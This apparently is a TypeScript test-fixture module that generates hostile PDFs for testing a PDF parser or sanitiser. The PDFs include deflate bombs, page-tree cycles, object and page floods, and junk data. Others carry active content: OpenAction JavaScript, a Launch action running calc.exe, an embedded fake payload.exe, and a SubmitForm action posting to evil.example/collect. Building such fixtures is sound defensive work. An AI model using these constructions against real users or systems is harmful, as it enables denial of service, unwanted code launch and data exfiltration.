// Hostile PDFs generated at test time, deterministic and small on disk: inflate bombs, page-tree and
// /Parent cycles, object floods, too many pages, junk, and PDFs carrying active content.
import { createDeflate } from 'node:zlib';
import { PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts } from 'pdf-lib';

type Body = string | { dict: string; stream: Buffer };

/** A classic PDF (xref table) of the objects, numbered from 1; object 1 is the catalog. */
export function rawPdf(objects: Body[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let offset = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(offset);
    const chunk =
      typeof body === 'string'
        ? Buffer.from(`${i + 1} 0 obj\n${body}\nendobj\n`, 'latin1')
        : Buffer.concat([
            Buffer.from(`${i + 1} 0 obj\n<< ${body.dict} /Length ${body.stream.length} >>\nstream\n`, 'latin1'),
            body.stream,
            Buffer.from('\nendstream\nendobj\n', 'latin1'),
          ]);
    parts.push(chunk);
    offset += chunk.length;
  });
  let xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) xref += `${String(o).padStart(10, '0')} 00000 n \n`;
  parts.push(Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${offset}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

const PAGE = '/Type /Page /MediaBox [0 0 595 842]';

/** zlib data that inflates to `megabytes` MB of zeros, made without ever holding them (a 1 MB buffer reused). */
export function zerosDeflated(megabytes: number): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const z = createDeflate({ level: 9 });
    const out: Buffer[] = [];
    z.on('data', (c: Buffer) => out.push(c));
    z.on('end', () => resolve(Buffer.concat(out)));
    z.on('error', reject);
    const mb = Buffer.alloc(1024 * 1024);
    let left = megabytes;
    const pump = () => {
      while (left > 0) {
        left--;
        if (!z.write(mb)) return void z.once('drain', pump);
      }
      z.end();
    };
    pump();
  });
}

/** One page whose content stream inflates to `megabytes` MB. */
export async function contentBomb(megabytes: number): Promise<Buffer> {
  return rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', `<< ${PAGE} /Parent 2 0 R /Contents 4 0 R >>`, { dict: '/Filter /FlateDecode', stream: await zerosDeflated(megabytes) }]);
}

/** An object stream (which parsers inflate while loading) that inflates to `megabytes` MB. */
export async function objectStreamBomb(megabytes: number): Promise<Buffer> {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< ${PAGE} /Parent 2 0 R >>`,
    { dict: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', stream: await zerosDeflated(megabytes) },
  ]);
}

/** /Kids of the root lead to a node whose /Kids lead back to the root. */
export const kidsCycle = () =>
  rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1 >>']);

/** A page whose /Parent chain loops (root → page; page's parent → a node that is its own parent). */
export const parentCycle = () =>
  rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', `<< ${PAGE} /Parent 4 0 R >>`, '<< /Type /Pages /Kids [3 0 R] /Parent 4 0 R /Count 1 >>']);

/** A valid one-page PDF followed by `n` tiny objects nobody refers to. */
export function manyObjects(n: number): Buffer {
  const objs: Body[] = ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', `<< ${PAGE} /Parent 2 0 R >>`];
  for (let i = 0; i < n; i++) objs.push('null');
  return rawPdf(objs);
}

/** `n` blank pages in one flat /Pages node. */
export function manyPages(n: number): Buffer {
  const kids = Array.from({ length: n }, (_, i) => `${i + 3} 0 R`).join(' ');
  const objs: Body[] = ['<< /Type /Catalog /Pages 2 0 R >>', `<< /Type /Pages /Kids [${kids}] /Count ${n} >>`];
  for (let i = 0; i < n; i++) objs.push(`<< ${PAGE} /Parent 2 0 R >>`);
  return rawPdf(objs);
}

/** "%PDF-1.7" then `size` deterministic pseudo-random bytes (a linear congruential generator). */
export function junkAfterHeader(size: number, seed = 7): Buffer {
  const out = Buffer.alloc(size);
  let x = seed;
  for (let i = 0; i < size; i++) {
    x = (x * 1103515245 + 12345) >>> 0;
    out[i] = x >>> 24;
  }
  return Buffer.concat([Buffer.from('%PDF-1.7\n'), out]);
}

/** `count` objects whose bodies are `size` bytes of junk: past a quick look, left to the parser. */
export function junkObjects(count = 64, size = 128 * 1024): Buffer {
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...Array.from({ length: count }, (_, i) => Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), junkAfterHeader(size, i + 11), Buffer.from('\nendobj\n')])),
  ]);
}

/** A readable two-page PDF (text "<marker> page n") with active content added by `arm`. */
export async function armedPdf(marker: string, arm: (doc: PDFDocument) => void | Promise<void>): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  for (let i = 1; i <= 2; i++) doc.addPage([595.28, 841.89]).drawText(`${marker} page ${i}`, { x: 72, y: 700, size: 18, font });
  await arm(doc);
  return Buffer.from(await doc.save());
}

export const arms = {
  openActionJavaScript(doc: PDFDocument) {
    const c = doc.context;
    doc.catalog.set(PDFName.of('OpenAction'), c.register(c.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("PWNED-OPEN")') })));
    const js = c.register(c.obj({ S: 'JavaScript', JS: PDFHexString.fromText('app.launchURL("https://evil.example/")') }));
    doc.catalog.set(PDFName.of('Names'), c.obj({ JavaScript: c.obj({ Names: [PDFString.of('init'), js] }) }));
    doc.getPage(0).node.set(PDFName.of('AA'), c.obj({ O: c.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("PWNED-PAGE")') }) }));
  },
  launch(doc: PDFDocument) {
    const c = doc.context;
    const link = c.register(
      c.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, 600, 300, 640], Border: [0, 0, 0], A: c.obj({ S: 'Launch', F: PDFString.of('C:\\Windows\\System32\\calc.exe') }) }),
    );
    const keep = c.register(c.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, 500, 300, 540], Border: [0, 0, 0], A: c.obj({ S: 'URI', URI: PDFString.of('https://www.gov.uk/') }) }));
    doc.getPage(0).node.set(PDFName.of('Annots'), c.obj([link, keep]));
  },
  async embeddedFiles(doc: PDFDocument) {
    await doc.attach(Buffer.from('MZ EVIL-PAYLOAD'), 'payload.exe', { mimeType: 'application/octet-stream', description: 'not for you' });
    const c = doc.context;
    const form = c.obj({ Fields: [], XFA: PDFString.of('<xdp:xdp>EVIL-XFA</xdp:xdp>') });
    doc.catalog.set(PDFName.of('AcroForm'), form);
    const submit = c.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, 400, 300, 440], A: c.obj({ S: 'SubmitForm', F: PDFString.of('https://evil.example/collect') }) });
    doc.getPage(1).node.set(PDFName.of('Annots'), c.obj([c.register(submit)]));
  },
};
